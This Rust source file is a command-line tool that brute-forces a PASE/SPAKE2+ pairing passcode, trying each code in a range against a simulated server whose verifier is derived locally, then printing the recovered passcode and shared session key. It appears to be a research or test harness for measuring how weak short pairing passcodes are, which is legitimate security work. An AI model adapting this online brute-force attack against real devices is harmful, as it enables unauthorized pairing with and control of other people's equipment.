//! Walk the passcode space against live server sessions until one pairs.

use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use clap::Parser;
use pase::{passcode, spake2p::compute_w0_l, DefaultProvider, PbkdfParameters};
use pase_tools::{attack::brute_force, logging::init_logging};
use tracing::info;

/// Online brute force of a pairing passcode
#[derive(Parser)]
#[command(author, version, about, long_about = None)]
struct Args {
    /// Passcode the simulated server is set up with
    #[arg(long, default_value_t = 250)]
    server_passcode: u32,

    /// PBKDF salt, used as raw bytes
    #[arg(long, default_value_t = String::from("asalt"))]
    salt: String,

    /// PBKDF iteration count
    #[arg(long, default_value_t = 100_000)]
    iterations: u32,

    /// First passcode to try
    #[arg(long, default_value_t = passcode::MIN)]
    start: u32,

    /// Last passcode to try (inclusive)
    #[arg(long, default_value_t = passcode::MAX)]
    end: u32,

    /// Seconds allowed for each pairing attempt
    #[arg(long, default_value_t = 30)]
    attempt_timeout: u64,

    /// Log Level (ERROR/WARN/INFO/DEBUG/TRACE)
    #[arg(long, default_value_t = String::from("INFO"))]
    log_level: String,
}

#[tokio::main]
async fn main() -> Result<()> {
    let args = Args::parse();
    init_logging(&args.log_level)?;

    let params = PbkdfParameters::new(args.iterations, args.salt.as_bytes())
        .context("invalid PBKDF parameters")?;
    let provider = DefaultProvider::shared();

    let target = compute_w0_l(&provider, &params, args.server_passcode)
        .await
        .context("deriving the server verifier")?;

    let started = Instant::now();
    let found = brute_force(
        &provider,
        &target,
        &params,
        args.start..=args.end,
        Duration::from_secs(args.attempt_timeout),
    )
    .await?;

    match found {
        Some(r) => {
            println!("Pairing succeeded with passcode: {:08}", r.passcode);
            println!("Shared secret: {}", hex::encode(*r.session_key));
            info!("{} attempts in {:?}", r.attempts, started.elapsed());
        }
        None => println!("Brute-force attempt completed. No valid passcode found."),
    }
    Ok(())
}
